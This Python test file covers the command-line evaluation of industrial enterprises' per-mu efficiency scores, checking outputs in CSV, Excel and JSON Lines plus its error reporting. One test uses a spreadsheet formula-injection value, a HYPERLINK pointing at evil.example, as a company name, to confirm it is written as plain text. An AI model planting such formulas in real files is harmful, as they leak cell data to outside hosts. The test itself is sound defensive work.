"""``mujun evaluate`` end to end through ``engine.cli.run`` (no Django needed)."""

import csv
import io
import json

import pytest
from openpyxl import Workbook, load_workbook

from mujun.evaluation.engine import csvbytes, output
from mujun.evaluation.engine.cli import run
from mujun.evaluation.engine.compute import evaluate
from mujun.evaluation.engine.loader import load_scheme, shipped_schemes
from mujun.evaluation.engine.results import result_columns

from .support import csv_text, table
from .test_vectors import HUANGYAN_ABOVE, HUANGYAN_BELOW

HEADER = list(HUANGYAN_ABOVE)
ROWS = [
    HUANGYAN_ABOVE,
    HUANGYAN_BELOW,
    {**HUANGYAN_ABOVE, "uscc": "A2", "tax_wan": 100, "emission_t": ""},
    {"uscc": "N1", "size_class": "", "land_mu": 5},
]


def invoke(*argv):
    out, err = io.StringIO(), io.StringIO()
    code = run([str(a) for a in argv], stdout=out, stderr=err)
    return code, out.getvalue(), err.getvalue()


def read_csv(path):
    with open(path, encoding="utf-8-sig", newline="") as handle:
        return list(csv.DictReader(handle))


def test_csv_in_csv_out_with_a_shipped_scheme_name(tmp_path):
    data = tmp_path / "data.csv"
    data.write_text(csv_text(ROWS), encoding="utf-8")

    code, out, err = invoke(data, "--scheme", "huangyan-2022", "--out", tmp_path / "result.csv")

    assert (code, err) == (0, "")
    result = read_csv(tmp_path / "result.csv")
    assert [r["uscc"] for r in result] == ["A1", "B1", "A2", "N1"]  # input order
    assert [r["total"] for r in result[:2]] == ["113.5386", "77.0200"]
    assert [r["rank"] for r in result] == ["1", "1", "2", ""]
    assert result[3]["status"] == "ineligible"
    # A2 has no emission data: it gets the mean score of its peers (here A1's 8.1139).
    assert result[2]["score_value_added_per_emission"] == "8.1139"
    assert list(result[0])[:8] == [
        "uscc",
        "name",
        "region",
        "group",
        "status",
        "reason",
        "value_tax_per_mu",
        "score_tax_per_mu",
    ]
    assert list(result[0])[-9:] == [
        "bonus",
        "total",
        "rank",
        "class",
        "class_label",
        "electricity_surcharge_rate",
        "electricity_surcharge_wan",
        "inefficient",
        "inefficient_reasons",
    ]
    assert "above (规上工业企业): 2 graded" in out


BELOW_ONLY = """
name = "规下 only"
source = "Huangyan 2022 below-size formula"
[class_labels]
D = "D类（落后整治类）"
[[groups]]
key = "below"
label = "规下工业企业"
where = { size_class = "below" }
[[groups.indicators]]
key = "tax_per_mu"
label = "亩均税收"
numerator = "tax_wan"
denominator = "land_mu"
weight = 50
benchmark = 11.5932
[[groups.indicators]]
key = "tax_per_electricity"
label = "单位用电税收"
numerator = "tax_wan"
denominator = "electricity_wan_kwh"
weight = 50
benchmark = 0.2352
[groups.classes]
method = "shares"
shares = { A = 0.20, B = 0.40, C = 0.35, D = 0.05 }
"""


def test_excel_in_excel_out_with_a_summary_sheet(tmp_path):
    book = Workbook()
    sheet = book.active
    sheet.append(["统一社会信用代码", "规模", "用地面积(亩)", "评价税收", "用电量(万千瓦时)"])
    sheet.append(["B1", "规下", 10, 80, 400])
    sheet.append(["B2", "规下", 20, 10, 100])
    book.save(tmp_path / "data.xlsx")
    scheme = tmp_path / "below.toml"
    scheme.write_text(BELOW_ONLY, encoding="utf-8")

    code, _, err = invoke(
        tmp_path / "data.xlsx", "--scheme", scheme, "--out", tmp_path / "result.xlsx"
    )

    assert (code, err) == (0, "")
    result = load_workbook(tmp_path / "result.xlsx")
    rows = list(result.worksheets[0].values)
    header = rows[0]
    first = dict(zip(header, rows[1], strict=True))
    assert first["total"] == 77.02 and first["rank"] == 1 and first["inefficient"] is False
    summary = list(result.worksheets[1].values)
    assert ("below", "规下工业企业", 2, "tax_per_mu", "亩均税收", "11.5932", None) in summary
    assert ("below", "规下工业企业", "D", "D类（落后整治类）", 1, None, None) in summary


def test_excel_out_writes_a_formula_like_name_as_text(tmp_path):
    evil = '=HYPERLINK("http://evil.example/?d="&A2,"点击查看")'
    data = tmp_path / "data.csv"
    data.write_text(csv_text([{**HUANGYAN_ABOVE, "name": evil}, HUANGYAN_BELOW]), encoding="utf-8")

    code, _, err = invoke(data, "--scheme", "huangyan-2022", "--out", tmp_path / "result.xlsx")

    assert (code, err) == (0, "")
    name = load_workbook(tmp_path / "result.xlsx").worksheets[0]["B2"]
    assert (name.value, name.data_type, name.quotePrefix) == (evil, "s", True)


def test_json_lines_keep_exact_decimals(tmp_path):
    data = tmp_path / "data.csv"
    data.write_text(csv_text(ROWS[:2]), encoding="utf-8")

    code, _, _ = invoke(data, "--scheme", "huangyan-2022", "--out", tmp_path / "result.jsonl")

    lines = (tmp_path / "result.jsonl").read_text(encoding="utf-8").splitlines()
    assert code == 0 and len(lines) == 2
    assert '"total": 77.0200' in lines[1]
    record = json.loads(lines[1])
    assert record["rank"] == 1 and record["reason"] == [] and record["inefficient"] is False
    assert record["score_rd_intensity"] is None


def test_mistakes_in_scheme_and_data_are_all_listed_and_nothing_is_written(tmp_path):
    scheme = tmp_path / "bad.toml"
    original = shipped_schemes()["huangyan-2022"].read_text(encoding="utf-8")
    scheme.write_text(original.replace("weight = 30", 'weight = "30"'), encoding="utf-8")
    data = tmp_path / "data.csv"
    rows = [dict(ROWS[0]), dict(ROWS[0]), {**ROWS[1], "tax_wan": "八十"}]
    data.write_text(csv_text(rows), encoding="utf-8")
    target = tmp_path / "result.csv"
    target.write_text("last year's result", encoding="utf-8")

    code, out, err = invoke(data, "--scheme", scheme, "--out", target)

    assert code == 1 and out == ""
    assert "3 problem(s); nothing was written" in err
    assert f"{scheme}: groups.above.indicators.tax_per_mu.weight: must be a number, not '30'" in err
    assert f"{data}: row 3, column uscc: A1 repeats row 2" in err
    assert f"{data}: row 4, column tax_wan: '八十' is not a number" in err
    assert target.read_text(encoding="utf-8") == "last year's result"
    assert sorted(p.name for p in tmp_path.iterdir()) == ["bad.toml", "data.csv", "result.csv"]


def test_an_unknown_column_and_a_wrong_result_type_are_listed(tmp_path):
    data = tmp_path / "data.csv"
    data.write_text(csv_text([{**ROWS[0], "备注": "x"}]), encoding="utf-8")

    code, _, err = invoke(data, "--scheme", "huangyan-2022", "--out", tmp_path / "result.txt")

    assert code == 1
    assert "result.txt: the result file must end in .csv, .xlsx or .jsonl" in err
    assert "column 备注: unknown column" in err
    assert not (tmp_path / "result.txt").exists()


def test_list_schemes_help_and_usage(tmp_path):
    code, out, _ = invoke("--list-schemes")
    assert code == 0 and "huangyan-2022\t黄岩区 2022 年度工业企业亩均效益综合评价" in out

    assert invoke("--help")[0] == 0
    code, _, err = invoke(tmp_path / "data.csv")
    assert code == 2 and "DATA, --scheme and --out are all needed" in err


@pytest.mark.parametrize("block_limit", [csvbytes.MAX_BLOCK_BYTES, 10])
def test_the_bulk_csv_writer_equals_the_csv_module(tmp_path, monkeypatch, block_limit):
    # With a 10-byte limit every text column is "too wide" and the string path is taken.
    monkeypatch.setattr(csvbytes, "MAX_BLOCK_BYTES", block_limit)
    scheme = load_scheme("huangyan-2022")
    names = ["甲", 'say "hi"', "甲,乙", "line\nbreak", ""]
    rows = [
        {**HUANGYAN_ABOVE, "uscc": f"A{i:03d}", "tax_wan": 1000 - 37 * i, "name": names[i % 5]}
        for i in range(40)
    ]
    rows[3]["emission_t"] = ""
    rows[4]["value_added_wan"] = "-250.5"  # negative values and scores
    rows.append({"uscc": "Z", "size_class": "", "land_mu": 1})
    ev = evaluate(scheme, table(rows, scheme))

    output.write_csv(ev, str(tmp_path / "bulk.csv"))

    expected = io.StringIO()
    columns = result_columns(ev)
    writer = csv.writer(expected, lineterminator="\n")
    writer.writerow(columns)
    writer.writerows(zip(*columns.values(), strict=True))
    assert (tmp_path / "bulk.csv").read_bytes() == expected.getvalue().encode("utf-8-sig")
    assert any(v.startswith("-") for v in columns["score_value_added_per_mu"])
